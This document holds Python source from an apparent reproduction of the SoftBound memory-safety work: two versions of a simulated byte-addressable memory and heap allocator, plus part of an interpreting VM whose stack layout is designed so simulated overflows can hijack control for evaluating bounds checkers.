        if self.trap is not None and self.trap.kind == TrapKind.CONTROL_FLOW_HIJACK:
            return True
        return self.exit_code == ATTACK_EXIT_CODE


#: Attack payload functions exit with this code so a successful exploit
#: is observable even when the hijack mechanism executed the payload.
ATTACK_EXIT_CODE = 66
