"""Simulated flat byte-addressable memory.

A 64-bit little-endian address space with four regions:

====================  ==========================  =========================
region                default placement           purpose
====================  ==========================  =========================
NULL guard            ``[0x0, 0x1000)``           never mapped; dereferencing
                                                  NULL-ish pointers segfaults
code                  ``0x1000 + 16*i``           one pseudo-address per
                                                  function (never data-mapped)
globals               ``0x0010_0000 …``           global variable images
heap                  ``0x2000_0000 …``           malloc arena (free list)
stack                 ``… 0x7fff_f000`` (down)    call frames
====================  ==========================  =========================

Crucially, each *segment* is one contiguous mapped range: an overflow
past the end of one stack array or heap block lands in adjacent program
data and silently corrupts it — exactly like real hardware, which is what
gives the paper's attack and bug-detection experiments their teeth.
Only accesses that leave every mapped segment trap (simulated SIGSEGV).

Hot-path design: segment resolution is an address-range dispatch (the
three data regions occupy disjoint, ordered ranges) backed by a
last-segment cache, and the scalar codec uses pre-built
:class:`struct.Struct` instances unpacking straight out of the segment
``bytearray`` — no per-access linear scan, no intermediate ``bytes``
copy.  The closure-compiled engine binds the :meth:`scalar_reader` /
:meth:`scalar_writer` factories, which additionally keep a private
per-closure segment cache (an instruction that repeatedly touches one
array never re-resolves its segment).
"""

import struct

from .errors import Trap, TrapKind

NULL_GUARD_END = 0x1000
CODE_BASE = 0x1000
CODE_STRIDE = 16
GLOBALS_BASE = 0x0010_0000
HEAP_BASE = 0x2000_0000
DEFAULT_HEAP_SIZE = 32 * 1024 * 1024
STACK_TOP = 0x7FFF_F000
DEFAULT_STACK_SIZE = 4 * 1024 * 1024

_HEAP_HEADER = 16
_HEAP_MAGIC = 0x5AFEB10C

#: Pre-built struct codecs for the power-of-two scalar widths, keyed by
#: ``(width, signed)``.  Other widths fall back to int.to_bytes/from_bytes.
_SCALAR_CODECS = {
    (1, True): struct.Struct("<b"),
    (1, False): struct.Struct("<B"),
    (2, True): struct.Struct("<h"),
    (2, False): struct.Struct("<H"),
    (4, True): struct.Struct("<i"),
    (4, False): struct.Struct("<I"),
    (8, True): struct.Struct("<q"),
    (8, False): struct.Struct("<Q"),
}
_F64 = struct.Struct("<d")


class Segment:
    __slots__ = ("name", "base", "data", "end")

    def __init__(self, name, base, size):
        self.name = name
        self.base = base
        self.data = bytearray(size)
        self.end = base + size

    def contains(self, addr, size):
        return self.base <= addr and addr + size <= self.end


class Memory:
    """The address space: segment registry plus scalar codec."""

    def __init__(self, heap_size=DEFAULT_HEAP_SIZE, stack_size=DEFAULT_STACK_SIZE):
        self.segments = []
        self.heap = Segment("heap", HEAP_BASE, heap_size)
        self.stack = Segment("stack", STACK_TOP - stack_size, stack_size)
        self.globals_segment = None
        self.segments.extend([self.heap, self.stack])
        self._last = self.heap  # last-segment cache
        # Heap allocator state: sorted free list of (offset, size) within
        # the heap segment, plus live allocation registry for free() and
        # the observers the baseline checkers attach.
        self._free_list = [(0, heap_size)]
        self.allocations = {}  # payload addr -> size
        self.bytes_in_use = 0
        self.peak_heap = 0

    # -- segment management ------------------------------------------------

    def map_globals(self, size):
        self.globals_segment = Segment("globals", GLOBALS_BASE, max(size, 1))
        self.segments.append(self.globals_segment)
        return self.globals_segment

    def _segment_for(self, addr, size):
        # Last-segment cache: straight-line code overwhelmingly touches
        # the segment it touched last.
        seg = self._last
        if seg.base <= addr and addr + size <= seg.end:
            return seg
        # Address-range dispatch: the three data regions are disjoint and
        # ordered (globals < heap < stack), so the address alone names
        # the only possible segment.
        if addr >= HEAP_BASE:
            seg = self.heap if addr < self.heap.end else self.stack
        else:
            seg = self.globals_segment
        if seg is not None and seg.base <= addr and addr + size <= seg.end:
            self._last = seg
            return seg
        # Generic fallback (exotic layouts, straddling accesses).
        for seg in self.segments:
            if seg.base <= addr and addr + size <= seg.end:
                self._last = seg
                return seg
        return None

    def is_mapped(self, addr, size=1):
        return self._segment_for(addr, size) is not None

    # -- raw access --------------------------------------------------------

    def read(self, addr, size):
        segment = self._segment_for(addr, size)
        if segment is None:
            raise Trap(TrapKind.SEGFAULT, f"read of {size} bytes", address=addr)
        off = addr - segment.base
        return bytes(segment.data[off : off + size])

    def write(self, addr, data):
        segment = self._segment_for(addr, len(data))
        if segment is None:
            raise Trap(TrapKind.SEGFAULT, f"write of {len(data)} bytes", address=addr)
        off = addr - segment.base
        segment.data[off : off + len(data)] = data

    # -- scalar codec --------------------------------------------------------

    def read_int(self, addr, width, signed=True):
        codec = _SCALAR_CODECS.get((width, signed))
        segment = self._segment_for(addr, width)
        if segment is None:
            raise Trap(TrapKind.SEGFAULT, f"read of {width} bytes", address=addr)
        if codec is None:
            off = addr - segment.base
            return int.from_bytes(segment.data[off : off + width], "little",
                                  signed=signed)
        return codec.unpack_from(segment.data, addr - segment.base)[0]

    def write_int(self, addr, value, width):
        codec = _SCALAR_CODECS.get((width, False))
        segment = self._segment_for(addr, width)
        if segment is None:
            raise Trap(TrapKind.SEGFAULT, f"write of {width} bytes", address=addr)
        mask = (1 << (width * 8)) - 1
        if codec is None:
            off = addr - segment.base
            segment.data[off : off + width] = (value & mask).to_bytes(width, "little")
        else:
            codec.pack_into(segment.data, addr - segment.base, value & mask)

    def read_f64(self, addr):
        segment = self._segment_for(addr, 8)
        if segment is None:
            raise Trap(TrapKind.SEGFAULT, "read of 8 bytes", address=addr)
        return _F64.unpack_from(segment.data, addr - segment.base)[0]

    def write_f64(self, addr, value):
        segment = self._segment_for(addr, 8)
        if segment is None:
            raise Trap(TrapKind.SEGFAULT, "write of 8 bytes", address=addr)
        _F64.pack_into(segment.data, addr - segment.base, float(value))

    def read_ptr(self, addr):
        return self.read_int(addr, 8, signed=False)

    def write_ptr(self, addr, value):
        self.write_int(addr, value, 8)

    # -- closure-engine codec factories --------------------------------------

    def _codec_reader(self, codec, width):
        """A bound reader closure ``fn(addr) -> value`` with its own
        segment cache — the compiled engine binds one per memory-touching
        instruction, so an instruction that loops over one array resolves
        its segment once."""
        unpack_from = codec.unpack_from
        segment_for = self._segment_for
        cached = self.heap

        def read(addr):
            nonlocal cached
            seg = cached
            if addr < seg.base or addr + width > seg.end:
                seg = segment_for(addr, width)
                if seg is None:
                    raise Trap(TrapKind.SEGFAULT, f"read of {width} bytes",
                               address=addr)
                cached = seg
            return unpack_from(seg.data, addr - seg.base)[0]

        return read

    def _codec_writer(self, codec, width, convert_float):
        pack_into = codec.pack_into
        mask = (1 << (width * 8)) - 1
        segment_for = self._segment_for
        cached = self.heap

        def write(addr, value):
            nonlocal cached
            seg = cached
            if addr < seg.base or addr + width > seg.end:
                seg = segment_for(addr, width)
                if seg is None:
                    raise Trap(TrapKind.SEGFAULT, f"write of {width} bytes",
                               address=addr)
                cached = seg
            if convert_float:
                pack_into(seg.data, addr - seg.base, float(value))
            else:
                pack_into(seg.data, addr - seg.base, value & mask)

        return write

    def scalar_reader(self, width, signed):
        return self._codec_reader(_SCALAR_CODECS[(width, signed)], width)

    def scalar_writer(self, width):
        return self._codec_writer(_SCALAR_CODECS[(width, False)], width, False)

    def f64_reader(self):
        return self._codec_reader(_F64, 8)

    def f64_writer(self):
        return self._codec_writer(_F64, 8, True)

    # -- strings ---------------------------------------------------------------

    def read_cstring(self, addr, limit=1 << 20):
        """Read a NUL-terminated string; traps if it runs off the map.

        Scans for the terminator inside each segment's ``bytearray``
        (one ``find`` per segment) instead of one trapped read per byte;
        behaviour — including the trap raised for unterminated or
        unmapped strings — is identical to the byte-at-a-time loop.
        """
        pieces = []
        collected = 0
        cursor = addr
        while collected < limit:
            segment = self._segment_for(cursor, 1)
            if segment is None:
                raise Trap(TrapKind.SEGFAULT, "read of 1 bytes", address=cursor)
            data = segment.data
            off = cursor - segment.base
            # The terminator must appear before the limit is exhausted.
            cap = min(len(data), off + (limit - collected))
            idx = data.find(0, off, cap)
            if idx >= 0:
                pieces.append(bytes(data[off:idx]))
                return b"".join(pieces)
            pieces.append(bytes(data[off:cap]))
            collected += cap - off
            cursor = segment.base + cap
        raise Trap(TrapKind.SEGFAULT, "unterminated string", address=addr)

    # -- heap allocator ------------------------------------------------------

    def malloc(self, size):
        """Allocate ``size`` payload bytes; returns the payload address.

        Returns 0 (NULL) for zero-size requests, raises OUT_OF_MEMORY via
        a None-return sentinel handled by the libc layer when exhausted.
        """
        if size <= 0:
            return 0
        need = _align16(size) + _HEAP_HEADER
        for i, (off, avail) in enumerate(self._free_list):
            if avail >= need:
                remaining = avail - need
                if remaining >= 32:
                    self._free_list[i] = (off + need, remaining)
                else:
                    need = avail  # absorb the tail fragment
                    del self._free_list[i]
                payload = self.heap.base + off + _HEAP_HEADER
                self.write_int(self.heap.base + off, need, 8)
                self.write_int(self.heap.base + off + 8, _HEAP_MAGIC, 8)
                self.allocations[payload] = size
                self.bytes_in_use += need
                self.peak_heap = max(self.peak_heap, self.bytes_in_use)
                return payload
        return None  # out of memory

    def free(self, payload):
        """Release an allocation.  Freeing NULL is a no-op; freeing an
        unknown address is ignored (glibc would corrupt or abort; our
        workloads don't rely on either)."""
        if payload == 0:
            return
        size = self.allocations.pop(payload, None)
        if size is None:
            return
        off = payload - _HEAP_HEADER - self.heap.base
        block = self.read_int(self.heap.base + off, 8)
        self.bytes_in_use -= block
        self._free_insert(off, block)

    def _free_insert(self, off, size):
        # Keep the free list sorted and coalesce neighbours.
        entries = self._free_list
        lo, hi = 0, len(entries)
        while lo < hi:
            mid = (lo + hi) // 2
            if entries[mid][0] < off:
                lo = mid + 1
            else:
                hi = mid
        entries.insert(lo, (off, size))
        # Coalesce with successor then predecessor.
        if lo + 1 < len(entries) and entries[lo][0] + entries[lo][1] == entries[lo + 1][0]:
            entries[lo] = (entries[lo][0], entries[lo][1] + entries[lo + 1][1])
            del entries[lo + 1]
        if lo > 0 and entries[lo - 1][0] + entries[lo - 1][1] == entries[lo][0]:
            entries[lo - 1] = (entries[lo - 1][0], entries[lo - 1][1] + entries[lo][1])
            del entries[lo]

    def allocation_size(self, payload):
        return self.allocations.get(payload)


def _align16(value):
    return (value + 15) & ~15
