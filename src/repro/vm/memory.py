"""Simulated flat byte-addressable memory.

A 64-bit little-endian address space with four regions:

====================  ==========================  =========================
region                default placement           purpose
====================  ==========================  =========================
NULL guard            ``[0x0, 0x1000)``           never mapped; dereferencing
                                                  NULL-ish pointers segfaults
code                  ``0x1000 + 16*i``           one pseudo-address per
                                                  function (never data-mapped)
globals               ``0x0010_0000 …``           global variable images
heap                  ``0x2000_0000 …``           malloc arena (free list)
stack                 ``… 0x7fff_f000`` (down)    call frames
====================  ==========================  =========================

Crucially, each *segment* is one contiguous mapped range: an overflow
past the end of one stack array or heap block lands in adjacent program
data and silently corrupts it — exactly like real hardware, which is what
gives the paper's attack and bug-detection experiments their teeth.
Only accesses that leave every mapped segment trap (simulated SIGSEGV).
"""

import struct

from .errors import Trap, TrapKind

NULL_GUARD_END = 0x1000
CODE_BASE = 0x1000
CODE_STRIDE = 16
GLOBALS_BASE = 0x0010_0000
HEAP_BASE = 0x2000_0000
DEFAULT_HEAP_SIZE = 32 * 1024 * 1024
STACK_TOP = 0x7FFF_F000
DEFAULT_STACK_SIZE = 4 * 1024 * 1024

_HEAP_HEADER = 16
_HEAP_MAGIC = 0x5AFEB10C


class Segment:
    __slots__ = ("name", "base", "data")

    def __init__(self, name, base, size):
        self.name = name
        self.base = base
        self.data = bytearray(size)

    @property
    def end(self):
        return self.base + len(self.data)

    def contains(self, addr, size):
        return self.base <= addr and addr + size <= self.end


class Memory:
    """The address space: segment registry plus scalar codec."""

    def __init__(self, heap_size=DEFAULT_HEAP_SIZE, stack_size=DEFAULT_STACK_SIZE):
        self.segments = []
        self.heap = Segment("heap", HEAP_BASE, heap_size)
        self.stack = Segment("stack", STACK_TOP - stack_size, stack_size)
        self.globals_segment = None
        self.segments.extend([self.heap, self.stack])
        # Heap allocator state: sorted free list of (offset, size) within
        # the heap segment, plus live allocation registry for free() and
        # the observers the baseline checkers attach.
        self._free_list = [(0, heap_size)]
        self.allocations = {}  # payload addr -> size
        self.bytes_in_use = 0
        self.peak_heap = 0

    # -- segment management ------------------------------------------------

    def map_globals(self, size):
        self.globals_segment = Segment("globals", GLOBALS_BASE, max(size, 1))
        self.segments.append(self.globals_segment)
        return self.globals_segment

    def _segment_for(self, addr, size):
        for segment in self.segments:
            if segment.contains(addr, size):
                return segment
        return None

    def is_mapped(self, addr, size=1):
        return self._segment_for(addr, size) is not None

    # -- raw access --------------------------------------------------------

    def read(self, addr, size):
        segment = self._segment_for(addr, size)
        if segment is None:
            raise Trap(TrapKind.SEGFAULT, f"read of {size} bytes", address=addr)
        off = addr - segment.base
        return bytes(segment.data[off : off + size])

    def write(self, addr, data):
        segment = self._segment_for(addr, len(data))
        if segment is None:
            raise Trap(TrapKind.SEGFAULT, f"write of {len(data)} bytes", address=addr)
        off = addr - segment.base
        segment.data[off : off + len(data)] = data

    # -- scalar codec --------------------------------------------------------

    def read_int(self, addr, width, signed=True):
        return int.from_bytes(self.read(addr, width), "little", signed=signed)

    def write_int(self, addr, value, width):
        mask = (1 << (width * 8)) - 1
        self.write(addr, (value & mask).to_bytes(width, "little"))

    def read_f64(self, addr):
        return struct.unpack("<d", self.read(addr, 8))[0]

    def write_f64(self, addr, value):
        self.write(addr, struct.pack("<d", float(value)))

    def read_ptr(self, addr):
        return self.read_int(addr, 8, signed=False)

    def write_ptr(self, addr, value):
        self.write_int(addr, value, 8)

    def read_cstring(self, addr, limit=1 << 20):
        """Read a NUL-terminated string; traps if it runs off the map."""
        out = bytearray()
        while len(out) < limit:
            byte = self.read(addr + len(out), 1)[0]
            if byte == 0:
                return bytes(out)
            out.append(byte)
        raise Trap(TrapKind.SEGFAULT, "unterminated string", address=addr)

    # -- heap allocator ------------------------------------------------------

    def malloc(self, size):
        """Allocate ``size`` payload bytes; returns the payload address.

        Returns 0 (NULL) for zero-size requests, raises OUT_OF_MEMORY via
        a None-return sentinel handled by the libc layer when exhausted.
        """
        if size <= 0:
            return 0
        need = _align16(size) + _HEAP_HEADER
        for i, (off, avail) in enumerate(self._free_list):
            if avail >= need:
                remaining = avail - need
                if remaining >= 32:
                    self._free_list[i] = (off + need, remaining)
                else:
                    need = avail  # absorb the tail fragment
                    del self._free_list[i]
                payload = self.heap.base + off + _HEAP_HEADER
                self.write_int(self.heap.base + off, need, 8)
                self.write_int(self.heap.base + off + 8, _HEAP_MAGIC, 8)
                self.allocations[payload] = size
                self.bytes_in_use += need
                self.peak_heap = max(self.peak_heap, self.bytes_in_use)
                return payload
        return None  # out of memory

    def free(self, payload):
        """Release an allocation.  Freeing NULL is a no-op; freeing an
        unknown address is ignored (glibc would corrupt or abort; our
        workloads don't rely on either)."""
        if payload == 0:
            return
        size = self.allocations.pop(payload, None)
        if size is None:
            return
        off = payload - _HEAP_HEADER - self.heap.base
        block = self.read_int(self.heap.base + off, 8)
        self.bytes_in_use -= block
        self._free_insert(off, block)

    def _free_insert(self, off, size):
        # Keep the free list sorted and coalesce neighbours.
        entries = self._free_list
        lo, hi = 0, len(entries)
        while lo < hi:
            mid = (lo + hi) // 2
            if entries[mid][0] < off:
                lo = mid + 1
            else:
                hi = mid
        entries.insert(lo, (off, size))
        # Coalesce with successor then predecessor.
        if lo + 1 < len(entries) and entries[lo][0] + entries[lo][1] == entries[lo + 1][0]:
            entries[lo] = (entries[lo][0], entries[lo][1] + entries[lo + 1][1])
            del entries[lo + 1]
        if lo > 0 and entries[lo - 1][0] + entries[lo - 1][1] == entries[lo][0]:
            entries[lo - 1] = (entries[lo - 1][0], entries[lo - 1][1] + entries[lo][1])
            del entries[lo]

    def allocation_size(self, payload):
        return self.allocations.get(payload)


def _align16(value):
    return (value + 15) & ~15
