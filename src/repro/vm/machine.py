"""The interpreting virtual machine.

Executes IR modules over :class:`~repro.vm.memory.Memory` with a calling
convention designed so that spatial violations have *realistic
consequences* (DESIGN.md, "Attackable VM"):

* Every call frame materializes its saved frame pointer and return
  address as bytes in simulated stack memory, *above* the frame's local
  allocations (as on x86).  A buffer overflow in a stack array therefore
  really does overwrite the saved FP and return address, and the `ret`
  sequence really does read them back from memory — so smashed stacks
  genuinely hijack control.
* Function pointers are pseudo code addresses; indirect calls through a
  corrupted pointer transfer control to whatever function the attacker
  wrote there (or wild-jump trap).
* ``setjmp`` buffers hold their resume target in memory; overflowing a
  ``jmp_buf`` redirects ``longjmp``.

The machine supports pluggable *access observers* (used by the
Valgrind/Mudflap/Jones-Kelly/MSCC baseline checkers) and executes the
SoftBound runtime instructions (`sb_check`, `sb_meta_*`) against a
metadata facility when the module has been transformed.
"""

from ..ir.irtypes import F64, I64, PTR
from ..ir.values import Const, Register, SymbolRef
from ..obs.profiler import site_of
from .costs import CostStats, OP_COSTS
from .errors import ExecutionResult, Trap, TrapKind
from .libc import Libc
from .memory import CODE_BASE, CODE_STRIDE, GLOBALS_BASE, Memory

_RETADDR_BASE = 0x000A_0000
_LJTARGET_BASE = 0x000C_0000

#: Shared with the compiled engine so both raise an identical trap.
RESOURCE_LIMIT_MSG = "instruction budget exhausted"


class _ExitProgram(Exception):
    def __init__(self, code):
        self.code = code


class Frame:
    __slots__ = (
        "function", "regs", "base", "size", "fp", "expected_ret",
        "caller_site", "block", "index", "dst_reg", "dst_meta",
        "va_spill", "va_bytes", "va_ptr_count", "va_metas", "alloca_ctypes",
        "lock_slot",
    )

    def __init__(self, function):
        self.function = function
        self.regs = {}
        self.base = 0
        self.size = 0
        self.fp = 0
        self.expected_ret = 0
        self.caller_site = None  # (block, index) in caller
        self.block = None
        self.index = 0
        self.dst_reg = None
        self.dst_meta = None
        self.va_spill = 0
        self.va_bytes = 0
        self.va_ptr_count = 0
        self.va_metas = {}
        self.alloca_ctypes = []
        self.lock_slot = 0  # the frame's temporal lock (0: none acquired)


class Observer:
    """Hook interface for baseline checkers (no-op defaults)."""

    def attach(self, machine):
        self.machine = machine

    def on_global(self, addr, size, name, ctype):
        pass

    def on_heap_alloc(self, addr, size):
        pass

    def on_heap_free(self, addr, size):
        pass

    def on_stack_alloc(self, addr, size, name, ctype):
        pass

    def on_stack_free(self, addr, size):
        pass

    def on_load(self, addr, size):
        pass

    def on_store(self, addr, size):
        pass

    def on_pointer_create(self, value, origin):
        pass


def _frame_layout(function):
    """Compute (and cache) the static frame layout of a function:
    alloca offsets, the saved-FP/return-address slots above them, and a
    spill area for variadic arguments above those (like stack-passed
    arguments on x86)."""
    cached = getattr(function, "_frame_layout", None)
    if cached is not None:
        return cached
    offsets = {}
    offset = 0
    allocas = []
    ordered = [i for i in function.instructions() if i.opcode == "alloca"]
    ordered.sort(key=lambda i: bool(i.is_param))  # body locals low, params high
    for instr in ordered:
        align = max(instr.align, 1)
        offset = (offset + align - 1) // align * align
        offsets[instr.dst.uid] = offset
        allocas.append((offset, instr.size, instr.name, instr.ctype))
        offset += instr.size
    offset = (offset + 7) // 8 * 8
    fp_offset = offset          # saved FP
    ret_offset = offset + 8     # return address
    va_offset = offset + 16     # vararg spill area
    layout = (offsets, allocas, fp_offset, ret_offset, va_offset)
    function._frame_layout = layout
    return layout


class Machine:
    """Loads a module and executes it.

    ``engine`` selects the dispatch strategy:

    * ``"compiled"`` (default) — the closure-compiled threaded-code
      engine in :mod:`repro.vm.engine`: each basic block is translated
      once into specialized closures with operands, costs, branch
      targets and symbol addresses pre-resolved.
    * ``"interp"`` — the reference interpreter below, kept as the
      executable specification; ``tests/vm/test_engine_equivalence.py``
      pins the two engines to bit-identical :class:`ExecutionResult`\\ s.

    Engine names and the flag > ``REPRO_ENGINE`` > default resolution
    live in one place, :mod:`repro.api.env` (``ENGINES``,
    ``resolve_engine``).
    """

    def __init__(self, module, heap_size=None, stack_size=None,
                 input_data=b"", max_instructions=200_000_000, engine=None):
        # Centralized flag > REPRO_ENGINE > default resolution (the
        # import is deferred: repro.api pulls in this module).
        from ..api.env import resolve_engine

        self.engine_name = resolve_engine(engine)
        self._engine = None
        self.module = module
        kwargs = {}
        if heap_size:
            kwargs["heap_size"] = heap_size
        if stack_size:
            kwargs["stack_size"] = stack_size
        self.memory = Memory(**kwargs)
        self.stats = CostStats()
        self.libc = Libc(self)
        self.observers = []
        self.sb_runtime = None  # set by the SoftBound runtime when active
        self.site_profile = None  # set by attach_site_profile (obs profiler)
        self.input_data = input_data
        self.input_pos = 0
        self.output = []
        self.max_instructions = max_instructions
        self.frames = []
        self.sp = self.memory.stack.end
        self.rng_state = 1
        # Symbol resolution.
        self.symbol_addrs = {}
        self.addr_to_function = {}
        self.call_sites = {}
        self.next_site = 0
        self.jmpbufs = {}
        self._control_transferred = False
        self._load()

    # -- loading -------------------------------------------------------------

    def _load(self):
        # Code addresses for every function (user + builtin names that
        # might be taken as function pointers).
        index = 0
        for name in list(self.module.functions) + list(self.libc.builtin_names()):
            if name in self.symbol_addrs:
                continue
            addr = CODE_BASE + index * CODE_STRIDE
            self.symbol_addrs[name] = addr
            self.addr_to_function[addr] = name
            index += 1
        # Globals layout.
        offset = 0
        placements = []
        for name, gvar in self.module.globals.items():
            align = max(gvar.align, 1)
            offset = (offset + align - 1) // align * align
            placements.append((name, gvar, offset))
            offset += max(gvar.size, 1)
        segment = self.memory.map_globals(offset + 16)
        for name, gvar, off in placements:
            addr = GLOBALS_BASE + off
            self.symbol_addrs[name] = addr
            self.memory.write(addr, gvar.data)
        # SoftBound renames functions `_sb_*`; pre-transform symbol names
        # (used by function pointers and global initializers) alias the
        # transformed definitions.
        for orig, new in getattr(self.module, "sb_aliases", {}).items():
            if orig not in self.symbol_addrs and new in self.symbol_addrs:
                self.symbol_addrs[orig] = self.symbol_addrs[new]
        # Apply relocations now that all symbols have addresses.
        for name, gvar, off in placements:
            addr = GLOBALS_BASE + off
            for roff, sym, addend in gvar.relocs:
                target = self.symbol_addrs.get(sym)
                if target is None:
                    raise Trap(TrapKind.SEGFAULT, f"unresolved symbol {sym}")
                self.memory.write_ptr(addr + roff, target + addend)
        # Pre-assign every call site's return-address token in module
        # layout order.  Tokens are observable program state (a frame's
        # saved-RA bytes live in simulated stack memory, and overreads
        # can fold them into output), so their values must not depend on
        # which engine executes or in what dynamic order calls first
        # run; _site_id still assigns lazily for any call created later.
        for function in self.module.functions.values():
            for block in function.blocks:
                for instr in block.instructions:
                    if instr.opcode == "call":
                        self._site_id(self._call_site_key(function, instr))

    def attach_observer(self, observer):
        observer.attach(self)
        self.observers.append(observer)
        if self._engine is not None:
            # Compiled closures specialize away empty-observer branches.
            self._engine.invalidate()
        for name, gvar in self.module.globals.items():
            observer.on_global(self.symbol_addrs[name], max(gvar.size, 1), name, gvar.ctype)
        return observer

    def attach_site_profile(self, profile):
        """Attach an ``obs.profiler.SiteProfile``: every executed
        sb_check / sb_temporal_check / sb_meta_load is counted against
        its ``obs_site``.  The compiled engine regenerates its closures
        with counting variants (specialized at make time, so detached
        machines pay nothing)."""
        self.site_profile = profile
        if self._engine is not None:
            self._engine.invalidate()
        return profile

    def global_addr(self, name):
        return self.symbol_addrs[name]

    def global_range(self, name):
        gvar = self.module.globals[name]
        addr = self.symbol_addrs[name]
        return addr, addr + max(gvar.size, 1)

    # -- running ---------------------------------------------------------------

    def run(self, entry="main", args=()):
        """Execute ``entry`` to completion; never raises for program-level
        events — returns an :class:`ExecutionResult`."""
        function = self._resolve_entry(entry)
        trap = None
        exit_code = 0
        try:
            if self.sb_runtime is not None:
                self.sb_runtime.initialize_globals(self)
            value = self._call_function(function, list(args), site_id=0)
            exit_code = int(value) if value is not None else 0
        except _ExitProgram as exc:
            exit_code = exc.code
        except Trap as caught:
            trap = caught
        result = ExecutionResult(
            exit_code=exit_code,
            output="".join(self.output),
            trap=trap,
            stats=self.stats,
        )
        self.stats.peak_heap = self.memory.peak_heap
        if self.sb_runtime is not None:
            self.stats.metadata_bytes = self.sb_runtime.facility.metadata_bytes()
        return result

    def _resolve_entry(self, entry):
        name = entry
        if name not in self.module.functions and f"_sb_{name}" in self.module.functions:
            name = f"_sb_{name}"
        if name not in self.module.functions:
            raise KeyError(f"no entry function {entry!r}")
        return self.module.functions[name]

    # -- calls -------------------------------------------------------------------

    @staticmethod
    def _call_site_key(function, instr):
        """The identity a call instruction's return-address token is
        keyed on.  A pass that clones a call (checkwiden's slow-path
        loop version) stamps the clone with ``sb_site_key`` pointing at
        the original, so both copies share one token: tokens are
        observable program state (overreads can fold saved-RA bytes
        into output) and must not depend on whether a loop was cloned."""
        override = getattr(instr, "sb_site_key", None)
        if override is not None:
            return override
        return (function.name, id(instr))

    def _site_id(self, key):
        if key not in self.call_sites:
            self.next_site += 1
            self.call_sites[key] = _RETADDR_BASE + self.next_site * 8
        return self.call_sites[key]

    def _call_function(self, function, args, site_id, arg_metas=None):
        """Push a frame and run ``function`` to completion (the machine
        recurses through Python for calls; the *simulated* stack still
        holds FP/RA bytes so attacks behave realistically)."""
        frame = self._push_frame(function, args, site_id, arg_metas)
        return self._execute(frame)

    @staticmethod
    def _split_call_metadata(args, instr, arity=2):
        """Undo the SoftBound call convention: original args followed by
        one metadata tuple per pointer-typed original argument —
        ``(base, bound)`` spatially, ``(base, bound, key, lock)`` under
        temporal checking (``arity`` is the runtime's ``meta_arity``).
        Returns (original_args, per-arg metadata list or None)."""
        ctypes = list(getattr(instr, "arg_ctypes", []) or [])
        n_ptr = sum(1 for t in ctypes if t is not None and t.is_pointer)
        if n_ptr == 0 or len(args) < len(ctypes) + arity * n_ptr:
            return args, None
        original = args[: len(args) - arity * n_ptr]
        flat = args[len(args) - arity * n_ptr :]
        metas = []
        cursor = 0
        for i in range(len(original)):
            ctype = ctypes[i] if i < len(ctypes) else None
            if ctype is not None and ctype.is_pointer:
                metas.append(tuple(flat[cursor:cursor + arity]))
                cursor += arity
            else:
                metas.append(None)
        return original, metas

    def _push_frame(self, function, args, site_id, arg_metas=None):
        offsets, allocas, fp_off, ret_off, va_off = _frame_layout(function)
        named = len(function.params)
        extra = args[named:] if function.varargs else []
        va_area = len(extra) * 8
        frame_size = va_off + va_area
        base = self.sp - frame_size
        if base < self.memory.stack.base:
            raise Trap(TrapKind.STACK_OVERFLOW, function.name)
        frame = Frame(function)
        frame.base = base
        frame.size = frame_size
        frame.fp = base + fp_off
        frame.expected_ret = site_id
        frame.alloca_ctypes = allocas
        # Materialize saved FP and return address in simulated memory.
        caller_fp = self.frames[-1].fp if self.frames else 0
        self.memory.write_ptr(frame.fp, caller_fp)
        self.memory.write_ptr(frame.fp + 8, site_id)
        # Bind named parameters.
        for param, value in zip(function.params, args):
            frame.regs[param.register.uid] = value
        # Bind SoftBound companion parameters: one metadata tuple per
        # pointer-typed named parameter, in order (paper Section 3.3) —
        # (base, bound), widened with (key, lock) under temporal checking.
        sb_params = getattr(function, "sb_extra_params", [])
        if sb_params:
            arity = self.sb_runtime.meta_arity if self.sb_runtime is not None else 2
            flat = []
            for i, param in enumerate(function.params):
                meta = arg_metas[i] if arg_metas and i < len(arg_metas) else None
                if param.ctype is not None and param.ctype.is_pointer:
                    if meta is None:
                        meta = (0,) * arity
                    flat.extend(meta)
                    if len(meta) < arity:
                        flat.extend([0] * (arity - len(meta)))
            for param, value in zip(sb_params, flat):
                frame.regs[param.register.uid] = value
        # Acquire the frame's temporal lock: every alloca-derived pointer
        # in this function keys on it, and teardown kills it.
        if self.sb_runtime is not None and self.sb_runtime.temporal:
            frame_meta = getattr(function, "sb_frame_meta", None)
            if frame_meta is not None:
                key, slot = self.sb_runtime.lockspace.acquire(self.stats)
                frame.regs[frame_meta[0].uid] = key
                frame.regs[frame_meta[1].uid] = slot
                frame.lock_slot = slot
        # Spill variadic extras above the return address (x86-style).
        if function.varargs:
            spill = base + va_off
            frame.va_spill = spill
            frame.va_bytes = va_area
            metas = {}
            for i, value in enumerate(extra):
                meta = arg_metas[named + i] if arg_metas and named + i < len(arg_metas) else None
                if meta is not None:
                    metas[i * 8] = meta
                    frame.va_ptr_count += 1
                self.memory.write_int(spill + i * 8, int(value) if not isinstance(value, float) else 0, 8)
                if isinstance(value, float):
                    self.memory.write_f64(spill + i * 8, value)
            frame.va_metas = metas
        self.sp = base
        self.frames.append(frame)
        for observer in self.observers:
            for off, size, name, ctype in allocas:
                observer.on_stack_alloc(base + off, size, name, ctype)
        return frame

    def _pop_frame(self):
        frame = self.frames.pop()
        for observer in self.observers:
            for off, size, name, ctype in frame.alloca_ctypes:
                observer.on_stack_free(frame.base + off, size)
        if self.sb_runtime is not None:
            self.sb_runtime.on_frame_teardown(self, frame)
        self.sp = frame.base + frame.size
        return frame

    def current_frame(self):
        return self.frames[-1]

    # -- the dispatch loop ------------------------------------------------------------

    def _execute(self, frame):
        """Run ``frame`` until its function returns; returns the value.
        Dispatches to the selected engine."""
        if self.engine_name == "compiled":
            engine = self._engine
            if engine is None:
                from .engine import ClosureEngine

                engine = self._engine = ClosureEngine(self)
            return engine.execute(frame)
        return self._execute_interp(frame)

    def _execute_interp(self, frame):
        """The reference interpreter loop (executable specification)."""
        depth = len(self.frames)
        frame.block = frame.function.entry
        frame.index = 0
        stats = self.stats
        while True:
            if frame is not self.frames[-1]:
                frame = self.frames[-1]  # longjmp may have unwound
            if len(self.frames) < depth:
                raise Trap(TrapKind.UNREACHABLE, "frame unwound past execute root")
            block = frame.block
            if frame.index >= len(block.instructions):
                raise Trap(TrapKind.UNREACHABLE, f"fell off block {block.label}")
            instr = block.instructions[frame.index]
            stats.instructions += 1
            if stats.instructions > self.max_instructions:
                raise Trap(TrapKind.RESOURCE_LIMIT, RESOURCE_LIMIT_MSG)
            op = instr.opcode
            if op == "ret":
                value = self._exec_ret(frame, instr)
